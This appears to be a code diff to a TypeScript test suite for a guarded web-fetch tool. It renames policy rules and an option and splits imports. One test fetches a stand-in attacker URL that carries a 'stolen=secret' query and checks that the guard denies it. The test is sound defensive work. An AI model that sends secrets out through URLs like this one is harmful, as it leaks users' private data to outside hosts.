@@ -1,6 +1,9 @@
 import type { Worker } from "node:worker_threads";
 import { describe, expect, it, onTestFinished } from "vitest";
-import { createWebFetchTool, FetchError, type FetchedResource, linksIn, pageText } from "../src/index.ts";
+import { createWebFetchTool, pageText } from "../src/index.ts";
+import { FetchError } from "../src/web/errors.ts";
+import type { FetchedResource } from "../src/web/guarded-fetch.ts";
+import { linksIn } from "../src/web/links.ts";
 import { caller } from "./harness.ts";
 
 function page(
@@ -185,7 +188,7 @@ describe("web_fetch", () => {
         if (found === undefined) throw new FetchError("network", "There is no such host.");
         return found;
       },
-      isGiven: (url) => url === "https://given.example/",
+      isKnownLink: (url) => url === "https://given.example/",
     });
   const textOf = (result: Awaited<ReturnType<ReturnType<typeof caller>["call"]>>) =>
     result.content.flatMap((block) => (block.type === "text" ? [block.text] : [])).join("");
@@ -235,7 +238,7 @@ describe("web_fetch", () => {
     await call("web_fetch", { url: "https://example.com/", offset: 500 });
     asked.length = 0;
     await call("web_fetch", { url: "https://evil.example/?stolen=secret" });
-    expect(records.at(-1)).toMatchObject({ decision: "deny", rule: "taint.fetch-unseen" });
+    expect(records.at(-1)).toMatchObject({ decision: "deny", rule: "taint_fetch_unseen" });
     expect(asked).toEqual([]);
     await call("web_fetch", { url: "https://example.com/next#part" });
     await call("web_fetch", { url: "https://given.example/" });
@@ -245,7 +248,7 @@ describe("web_fetch", () => {
   it("is nothing for guests", async () => {
     const { call, records } = caller([tool()], { facts: { role: "guest" } });
     await call("web_fetch", { url: "https://example.com/" });
-    expect(records.at(-1)).toMatchObject({ decision: "deny", rule: "role.guest.allow" });
+    expect(records.at(-1)).toMatchObject({ decision: "deny", rule: "role_allow:guest" });
   });
 });
 
